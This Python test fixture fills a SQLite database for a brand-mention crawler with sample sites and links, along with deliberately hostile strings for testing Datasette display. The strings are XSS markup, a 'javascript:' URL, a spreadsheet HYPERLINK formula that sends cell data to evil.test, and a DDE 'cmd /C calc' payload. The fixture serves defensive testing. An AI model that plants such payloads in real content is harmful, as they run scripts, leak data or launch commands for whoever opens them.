"""A database of a small world with hostile texts, to be looked at in Datasette."""

import json
import sqlite3
from pathlib import Path

from pipelines.storing.database import open_database

CONFIG = Path(__file__).parent.parent / "datasette"
HOSTILE = "<script>document.title='owned'</script>"
FORMULA = '=HYPERLINK("http://evil.test/?x="&A1)'
SEEN = "2025-11-20T08:00:00Z"


def insert(db: sqlite3.Connection, table: str, **values: object) -> int:
    """Insert one row, with an empty text, 0 or a date for every column that must not be null, and return its id."""
    row: dict[str, object] = {}
    for _, name, kind, notnull, default, pk in db.execute(f"pragma table_info({table})"):
        if notnull and not pk and default is None:
            row[name] = SEEN if name.endswith(("_seen", "_at", "found", "started")) else 0 if kind != "TEXT" else ""
    row |= values
    marks = ", ".join("?" * len(row))
    return db.execute(f"insert into {table} ({', '.join(row)}) values ({marks})", list(row.values())).lastrowid or 0


def fill(path: Path) -> None:
    """Make a database of a small world at `path`: two competitors, ten sites, links, and hostile texts."""
    db = open_database(path)
    for name, role in (("Acme", "own"), ("Globex", "competitor"), ("Initech", "competitor")):
        host = f"{name.lower()}.test"
        insert(db, "brands", name=name, role=role, domains=f'["{host}"]', sites=f'["{host}"]', profiles="[]",
               aliases="[]", cased_aliases="[]", context="[]", exclude="[]", handles="[]")  # fmt: skip
    crawl = insert(db, "crawls", spider="resources", seeds="seeds.txt", brands_file="brands.toml")
    titles = (
        "Ten workshops worth a visit",
        "Tools we use every day",
        "The history of the anvil",
        "What to buy in spring",
    )
    for number in range(10):
        site = f"site{number}.example"
        insert(db, "sites", site=site)
        page = insert(db, "pages", url=f"https://www.{site}/guides/the-long-way-to-a-good-workshop/{number}/resources.html",
                      site=site, status=200, page_read="read", title=titles[number % 4], page_type="list", links_out=3,
                      published="2026-05-01", spider="resources", crawl_id=crawl)  # fmt: skip
        link = None
        if number % 3 == 0:
            link = insert(db, "links", page_id=page, brand="Acme", url="https://acme.test/", target="https://acme.test/",
                          owned="domain", anchor="Acme", kind="text", region="main", followed=1, ordinal=1)  # fmt: skip
        for brand in ("Globex", "Initech"):
            insert(db, "links", page_id=page, brand=brand, url=f"https://{brand.lower()}.test/", owned="domain",
                   anchor=brand, kind="text", region="main", followed=1, ordinal=1,
                   missing_since="2026-11-01T00:00:00Z" if number == 9 else None,
                   missing_checked="2026-11-02T00:00:00Z" if number == 9 else None)  # fmt: skip
        insert(db, "mentions", page_id=page, brand="Acme", surface="Acme", alias="Acme", match="name", score=90,
               region="main", before="For heavy work many smiths in our town still order their hammers from ",
               after=" and wait the four weeks, since nothing else lasts", link_state="linked" if link else "unlinked",
               link_id=link, ordinal=1, evidence='{"name that only means the brand": 90.0}')  # fmt: skip
        insert(db, "contacts", site=site, email=f"hello@{site}", source_url=f"https://{site}/about")
    insert(db, "sites", site="evil.example")
    page = insert(db, "pages", url="javascript:alert(1)", site="evil.example", status=200, page_read="read",
                  title=HOSTILE, page_type="article", links_out=1, spider="news", crawl_id=crawl)  # fmt: skip
    insert(db, "mentions", page_id=page, brand="Acme", surface=f"Acme{HOSTILE}", alias="Acme", match="name", score=70,
           region="main", before=FORMULA + "\nsecond, \"line\"", after="<img src=x onerror=alert(1)>", ordinal=1,
           link_state="unlinked", evidence="[]")  # fmt: skip
    insert(db, "refused", page_id=page, brand="Acme", surface=f"acme{HOSTILE}", alias="Acme", match="name",
           region="main", before="<img src=x onerror=alert(1)>", after=HOSTILE, ordinal=1, refused_on_page=1,
           evidence=json.dumps({"written like the name": 50, f"exclude word: {HOSTILE}": -85.5}))  # fmt: skip
    insert(db, "events", kind="link_missed", page_id=page, brand="Acme", at=SEEN)
    insert(db, "outbound_links", page_id=1, url="https://gone.example/", site="gone.example", anchor=HOSTILE,
           context=f"{FORMULA} [{HOSTILE}]", region="list", status=404, reason="not_found", checked=SEEN)  # fmt: skip
    db.execute("update pages set page_type = 'directory_listing' where site = 'site3.example'")
    insert(db, "outreach", site="site1.example", brand="Acme", note="-2+3+cmd|' /C calc'!A0")
    insert(db, "suppressions", kind="site", value="site2.example", added_at=SEEN)
    db.execute("update crawls set sweep = id")
    asked = (("seed", "queued", ""), ("feed", "failed", HOSTILE), ("page", "done", ""), ("check", "done", "not_found"))
    for kind, state, cause in asked:
        insert(db, "frontier", sweep=crawl, fingerprint=kind.encode(), url=f"https://site1.example/{kind}",
               site="site1.example", spider="resources", kind=kind, state=state, cause=cause, request="{}",
               queued=SEEN)  # fmt: skip
    for site, cause, count in (("site1.example", "depth", 3), ("blocked.example", "blocked", 12)):
        insert(db, "refusals", crawl_id=crawl, site=site, cause=cause, count=count, example=HOSTILE)
    insert(db, "freshness", spider="news", url="https://site1.example/seed", site="site1.example", etag=HOSTILE,
           body=b"\x01", rules=b"\x02", since=SEEN, checked=SEEN, changed=SEEN, due=SEEN, visits=1)  # fmt: skip
    db.commit()
    db.close()
